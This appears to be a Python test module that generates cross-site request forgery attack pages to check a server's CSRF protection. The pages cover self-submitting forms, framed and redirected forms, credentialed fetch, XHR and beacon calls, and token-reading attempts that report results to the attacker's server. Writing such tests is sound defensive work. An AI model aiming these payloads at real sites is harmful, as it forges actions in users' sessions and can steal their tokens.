"""The attacks: what a page of another origin can make a visitor's browser send.

Each is a page of the attacker's. In its scripts `url` is the address at SERVER, `fields` what the
attacker wants to send there, and `report(text)` tells the attacker's own server.
"""

from __future__ import annotations

import html
import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from enum import Enum
from urllib.parse import quote, urlsplit

from tests.attacks.front import BARE_PAGE, WAY_OUT


class End(Enum):
    """How the attack has to end."""

    #: It reaches SERVER, and SERVER refuses it for a reason of its CSRF protection.
    REFUSED = "refused by SERVER"
    #: It reaches SERVER as a method that changes nothing.
    READ = "read only"
    #: The browser asks SERVER first, and nobody answers that it may.
    PREFLIGHT = "stopped at the preflight"
    #: The browser does not send it.
    BLOCKED = "blocked by the browser"
    #: It reaches SERVER, and the attacker's page learns nothing.
    UNREADABLE = "unreadable to the attacker"


@dataclass(frozen=True)
class Scene:
    """What the attacker knows."""

    #: SERVER's and the attacker's own address, without a final slash.
    server: str
    own: str
    path: str
    fields: Mapping[str, str]
    #: In the query of the attack, to know it again.
    mark: str

    @property
    def url(self) -> str:
        return self.at(self.path)

    def at(self, path: str) -> str:
        """An address at SERVER that is recognised there."""
        return f"{self.server}{path}{'&' if '?' in path else '?'}{self.mark}"

    def redirect(self, to: str, status: int) -> str:
        return f"{self.own}{WAY_OUT}?as={status}&to={quote(to, safe='')}"


Page = Callable[[Scene], str]


@dataclass(frozen=True)
class Attack:
    sentence: str
    page: Page
    end: End = End.REFUSED
    #: Whether it would work if nothing protected SERVER.
    does_harm: bool = True
    #: The person is talked into clicking the page's button.
    click: bool = False
    #: It starts on SERVER's own origin, on a page without a policy.
    starts_at_home: bool = False
    #: Where it goes instead of the address that forms post notes to.
    path: str | None = None
    fields: Mapping[str, str] = field(default_factory=dict)


def form(
    scene: Scene,
    *,
    action: str | None = None,
    fields: Mapping[str, str] | None = None,
    **attributes: str,
) -> str:
    """A form, without what sends it."""
    named = {"method": "post", "action": action or scene.url, **attributes}
    listed = " ".join(f'{name}="{html.escape(value)}"' for name, value in named.items())
    inputs = "".join(
        f'<input type="hidden" name="{html.escape(name)}" value="{html.escape(value)}">'
        for name, value in (scene.fields if fields is None else fields).items()
    )
    return f"<form {listed}>{inputs}<button>Win</button></form>"


SEND_FORM = "<script>document.forms[0].submit()</script>"
JSON_IN_A_FORM = {'{"text": "planted", "rest": "': '"}'}


def submitted(**options: str) -> Page:
    """A form that sends itself."""
    return lambda scene: form(scene, **options) + SEND_FORM  # type: ignore[arg-type]


def clicked(**options: str) -> Page:
    return lambda scene: form(scene, **options)  # type: ignore[arg-type]


def script(code: str) -> Page:
    return lambda scene: f"<script>{code}</script>"


def told(call: str) -> Page:
    """A script whose promise is reported: what the attacker sees of the answer."""
    return script(f"""
        (async () => {call})().then(
            answer => report('answer ' + (answer?.type ?? answer)),
            error => report('error ' + error.name))
    """)


def markup(text: str) -> Page:
    """With `@` for the address at SERVER."""
    return lambda scene: text.replace("@", html.escape(scene.url))


def framed(document: Page, attributes: str) -> Page:
    return lambda scene: f'<iframe {attributes} srcdoc="{html.escape(document(scene))}"></iframe>'


def data_frame(scene: Scene) -> str:
    inner = quote(form(scene) + SEND_FORM)
    return f'<iframe src="data:text/html,{inner}"></iframe>'


def from_home(scene: Scene) -> str:
    """Own, to the attacker, and back to its own."""
    away = scene.redirect(scene.url, 307)
    return form(scene, action=f"{scene.server}{WAY_OUT}?as=307&to={quote(away, safe='')}")


NO_CORS = "method: 'POST', mode: 'no-cors', credentials: 'include'"
CORS = "method: 'POST', mode: 'cors', credentials: 'include'"
BODY = "body: new URLSearchParams(fields)"
XHR = """
    const request = new XMLHttpRequest()
    request.open('POST', url)
    request.withCredentials = true
    request.onload = () => report('answer ' + request.status)
    request.onerror = () => report('error')
"""
LOADED = "onload=\"report('loaded')\" onerror=\"report('error')\""
TOKEN = "/session/csrf-token"


FORMS = [
    Attack("a form that submits itself", submitted()),
    Attack("a multipart form", submitted(enctype="multipart/form-data")),
    Attack("a form without a token", submitted(), fields={"csrf_token": ""}),
    Attack("a form that the visitor is made to click", clicked(), click=True),
    Attack("a form in a new tab", clicked(target="_blank"), click=True),
    Attack(
        "a form in a new tab that has its opener",
        clicked(target="_blank", rel="opener"),
        click=True,
    ),
    Attack(
        "a form that submits into a hidden frame",
        lambda scene: '<iframe name="in" hidden></iframe>' + form(scene, target="in") + SEND_FORM,
    ),
    Attack(
        "a form in a sandboxed frame, whose origin is null",
        framed(submitted(), 'sandbox="allow-forms allow-scripts"'),
    ),
    Attack(
        "a form in a sandboxed frame that leads the whole tab",
        framed(
            submitted(target="_top"), 'sandbox="allow-forms allow-scripts allow-top-navigation"'
        ),
    ),
    Attack("a form in a frame made of the attacker's text", framed(submitted(), "")),
    Attack("a form in a frame with a data: address", data_frame),
    Attack(
        "a form on a page that sends no referrer",
        lambda scene: '<meta name="referrer" content="no-referrer">' + form(scene) + SEND_FORM,
    ),
    Attack(
        "a form whose referrer is to be sent in full",
        lambda scene: '<meta name="referrer" content="unsafe-url">' + form(scene) + SEND_FORM,
    ),
    Attack(
        "a form that asks to count as GET", submitted(), fields={"_method": "GET"}, does_harm=True
    ),
    Attack(
        "a form whose token field has a prefix",
        lambda scene: (
            form(scene, fields={**scene.fields, "note-csrf_token": scene.fields["csrf_token"]})
            + SEND_FORM
        ),
    ),
    Attack(
        "a form to the host's name with a final dot",
        lambda scene: form(scene, action=_with_a_dot(scene)) + SEND_FORM,
        does_harm=False,  # to browsers it is another host, so no cookie goes along
    ),
    Attack(
        "a form to an address with a name and a password in it",
        lambda scene: form(scene, action=scene.url.replace("://", "://ada:pass@", 1)) + SEND_FORM,
    ),
    Attack(
        "a text/plain form whose body is JSON",
        lambda scene: form(scene, fields=JSON_IN_A_FORM, enctype="text/plain") + SEND_FORM,
        path="/api/notes",
        does_harm=False,  # SERVER takes JSON only where it is called so
    ),
]


def _with_a_dot(scene: Scene) -> str:
    host = urlsplit(scene.server).hostname
    assert host
    return scene.url.replace(host, f"{host}.", 1)


FETCHES = [
    Attack(
        "a fetch that does not ask to see the answer", told(f"fetch(url, {{{NO_CORS}, {BODY}}})")
    ),
    Attack("a fetch that asks to see the answer", told(f"fetch(url, {{{CORS}, {BODY}}})")),
    Attack(
        "a fetch that outlives its page",
        told(f"fetch(url, {{{NO_CORS}, keepalive: true, {BODY}}})"),
    ),
    Attack(
        "a fetch that sends no referrer",
        told(f"fetch(url, {{{NO_CORS}, referrerPolicy: 'no-referrer', {BODY}}})"),
    ),
    Attack(
        "a fetch whose X-CSRFToken header the browser drops",
        told(f"fetch(url, {{{NO_CORS}, headers: {{'X-CSRFToken': fields.csrf_token}}, {BODY}}})"),
    ),
    Attack(
        "a fetch that claims another Origin, Referer and Sec-Fetch-Site",
        told(
            f"fetch(url, {{{CORS}, headers: {{Origin: server, Referer: server + '/dashboard', "
            f"'Sec-Fetch-Site': 'same-origin', Host: 'x', Cookie: 'a=b'}}, {BODY}}})"
        ),
    ),
    Attack(
        "a fetch of JSON that calls itself text",
        told(f"fetch(url, {{{NO_CORS}, body: JSON.stringify({{text: 'planted'}})}})"),
        path="/api/notes",
        does_harm=False,
    ),
    Attack(
        "a fetch of JSON that has no type",
        told(f"fetch(url, {{{NO_CORS}, body: new Blob([JSON.stringify({{text: 'planted'}})])}})"),
        path="/api/notes",
        does_harm=False,
    ),
    Attack(
        "a fetch whose type is text and in its parameter JSON",
        told(
            f"fetch(url, {{{NO_CORS}, headers: {{'Content-Type': 'text/plain; a=application/json'}}"
            ", body: JSON.stringify({text: 'planted'})})"
        ),
        path="/api/notes",
        does_harm=False,
    ),
    Attack(
        "a fetch of a form in another charset",
        told(
            f"fetch(url, {{{NO_CORS}, headers: {{'Content-Type': "
            "'application/x-www-form-urlencoded; charset=utf-16'}, "
            "body: new URLSearchParams(fields).toString()})"
        ),
    ),
    Attack(
        "a fetch with the X-CSRFToken header",
        told(f"fetch(url, {{{CORS}, headers: {{'X-CSRFToken': fields.csrf_token}}, {BODY}}})"),
        End.PREFLIGHT,
        does_harm=False,
    ),
    Attack(
        "a fetch of JSON",
        told(
            f"fetch(url, {{{CORS}, headers: {{'Content-Type': 'application/json'}}, "
            "body: JSON.stringify({text: 'planted'})})"
        ),
        End.PREFLIGHT,
        path="/api/notes",
        does_harm=False,
    ),
    Attack(
        "a fetch with a Bearer credential beside the cookie",
        told(f"fetch(url, {{{CORS}, headers: {{Authorization: 'Bearer hf_x'}}, {BODY}}})"),
        End.PREFLIGHT,
        does_harm=False,
    ),
    Attack(
        "a fetch that overrides its method in a header",
        told(f"fetch(url, {{{CORS}, headers: {{'X-HTTP-Method-Override': 'GET'}}, {BODY}}})"),
        End.PREFLIGHT,
        does_harm=False,
    ),
    *(
        Attack(
            f"a fetch of method {method}",
            told(f"fetch(url, {{...{{{CORS}}}, method: '{method}', {BODY}}})"),
            End.PREFLIGHT,
            does_harm=False,
        )
        for method in ("PUT", "PATCH", "DELETE", "PROPFIND")
    ),
    Attack(
        "a fetch of method PUT that asks for no answer",
        told(f"fetch(url, {{...{{{NO_CORS}}}, method: 'PUT', {BODY}}})"),
        End.BLOCKED,
        does_harm=False,
    ),
    Attack(
        "a fetch of method TRACE",
        told("fetch(url, {method: 'TRACE', mode: 'no-cors', credentials: 'include'})"),
        End.BLOCKED,
        does_harm=False,
    ),
    Attack(
        "a fetch that calls itself same-origin",
        told(f"fetch(url, {{...{{{CORS}}}, mode: 'same-origin', {BODY}}})"),
        End.BLOCKED,
        does_harm=False,
    ),
    Attack("an XHR with credentials", script(XHR + "request.send(new URLSearchParams(fields))")),
    Attack(
        "an XHR of a multipart form",
        script(
            XHR + "const data = new FormData(); "
            "for (const name in fields) data.append(name, fields[name]); request.send(data)"
        ),
    ),
    Attack(
        "an XHR that says it is one",
        script(
            XHR + "request.setRequestHeader('X-Requested-With', 'XMLHttpRequest'); "
            "request.send(new URLSearchParams(fields))"
        ),
        End.PREFLIGHT,
        does_harm=False,
    ),
    Attack("a beacon", script("navigator.sendBeacon(url, new URLSearchParams(fields))")),
    Attack(
        "a beacon of a multipart form",
        script(
            "const data = new FormData(); "
            "for (const name in fields) data.append(name, fields[name]); "
            "navigator.sendBeacon(url, data)"
        ),
    ),
    Attack(
        "a beacon of JSON that calls itself text",
        script("navigator.sendBeacon(url, JSON.stringify({text: 'planted'}))"),
        path="/api/notes",
        does_harm=False,
    ),
    Attack(
        "a ping of a link",
        lambda scene: f'<a href="#" ping="{html.escape(scene.url)}"><button>Win</button></a>',
        click=True,
        does_harm=False,  # what it sends is "PING"
    ),
]

REDIRECTS = [
    *(
        Attack(
            f"a form that the attacker's server hands on with {status}",
            lambda scene, status=status: (  # type: ignore[misc]
                form(scene, action=scene.redirect(scene.url, status)) + SEND_FORM
            ),
        )
        for status in (307, 308)
    ),
    *(
        Attack(
            f"a fetch that the attacker's server hands on with {status}",
            lambda scene, status=status: told(  # type: ignore[misc]
                f"fetch({json.dumps(scene.redirect(scene.url, status))}, {{{NO_CORS}, {BODY}}})"
            )(scene),
        )
        for status in (307, 308)
    ),
    Attack(
        "a form of SERVER's own origin that comes back by way of the attacker",
        from_home,
        starts_at_home=True,
    ),
    Attack(
        "a form that the attacker's server hands on with 302, which makes it a GET",
        lambda scene: form(scene, action=scene.redirect(scene.url, 302)) + SEND_FORM,
        End.READ,
        does_harm=False,
    ),
]


def reads(sentence: str, text: str, path: str | None = None) -> Attack:
    return Attack(sentence, markup(text), End.READ, does_harm=False, path=path)


READS = [
    reads("an image whose address signs out", "<img src='@'>", "/auth/logout"),
    reads("an image whose address adds a note", "<img src='@'>", "/notes?text=planted"),
    reads("an audio", "<audio src='@' autoplay></audio>"),
    reads("a stylesheet", "<link rel=stylesheet href='@'>"),
    reads("a script", "<script src='@'></script>"),
    reads("a background", "<div style=\"background: url('@'); height: 9px\"></div>"),
    reads("an object", "<object data='@'></object>"),
    reads("a frame of a page with forms", "<iframe src='@'></iframe>", "/dashboard"),
    reads("a sandboxed frame of a page", "<iframe sandbox src='@'></iframe>", "/account/tokens"),
    reads("a prefetch", "<link rel=prefetch href='@'>", "/auth/logout"),
    reads("a preload", "<link rel=preload as=fetch crossorigin=use-credentials href='@'>"),
    reads(
        "a refresh to an address that adds a note",
        "<meta http-equiv=refresh content='0; url=@'>",
        "/notes?_method=POST&text=planted",
    ),
    reads("an event stream", "<script>new EventSource(url, {withCredentials: true})</script>"),
    reads("a WebSocket", "<script>new WebSocket(url.replace('http', 'ws'))</script>", "/dashboard"),
    reads("a WebSocket to a form", "<script>new WebSocket(url.replace('http', 'ws'))</script>"),
    Attack(
        "a form of method GET that asks to count as POST",
        # Its fields take the place of the query, so the mark is one of them.
        lambda scene: (
            form(
                scene,
                method="get",
                action=scene.server + scene.path,
                fields={"text": "planted", "_method": "POST", scene.mark.rstrip("="): ""},
            )
            + SEND_FORM
        ),
        End.READ,
        does_harm=False,
    ),
    Attack(
        "a fetch of method HEAD",
        told("fetch(url, {method: 'HEAD', mode: 'no-cors', credentials: 'include'})"),
        End.READ,
        does_harm=False,
    ),
]


def theft(sentence: str, page: Page, path: str = TOKEN) -> Attack:
    return Attack(sentence, page, End.UNREADABLE, does_harm=False, path=path)


THEFTS = [
    theft(
        "a fetch that wants to read a token",
        told("(await fetch(url, {credentials: 'include'})).text()"),
    ),
    theft(
        "a fetch that wants to read a page",
        told("(await fetch(url, {credentials: 'include'})).text()"),
        "/dashboard",
    ),
    theft(
        "a fetch that takes what it can get of a token",
        told("(await fetch(url, {mode: 'no-cors', credentials: 'include'})).text()"),
    ),
    theft("a script that is a token", markup(f"<script src='@' {LOADED}></script>")),
    theft(
        "a frame that is read by its parent",
        lambda scene: markup(
            "<iframe src='@' onload=\"report(String(this.contentDocument?.body?.innerHTML))\">"
            "</iframe>"
        )(scene),
        "/dashboard",
    ),
]

ATTACKS = [*FORMS, *FETCHES, *REDIRECTS, *READS, *THEFTS]


def document(attack: Attack, scene: Scene) -> str:
    """The page of the attack."""
    known = {"server": scene.server, "url": scene.url, "fields": dict(scene.fields)}
    listed = ", ".join(f"{name} = {json.dumps(value)}" for name, value in known.items())
    report = f"{scene.own}/report?{scene.mark}&"
    # No icon: it would be one more request.
    return f"""<!doctype html><title>Win</title><link rel="icon" href="data:,">
<script>
const {listed}
const report = text => fetch({json.dumps(report)} + encodeURIComponent(text), {{mode: 'no-cors'}})
</script>
{attack.page(scene)}"""


def start_of(attack: Attack, scene: Scene) -> str:
    """Where the visitor is led to."""
    if attack.starts_at_home:
        return f"{scene.server}{BARE_PAGE}?{scene.mark}"
    return f"{scene.own}/win?{scene.mark}"
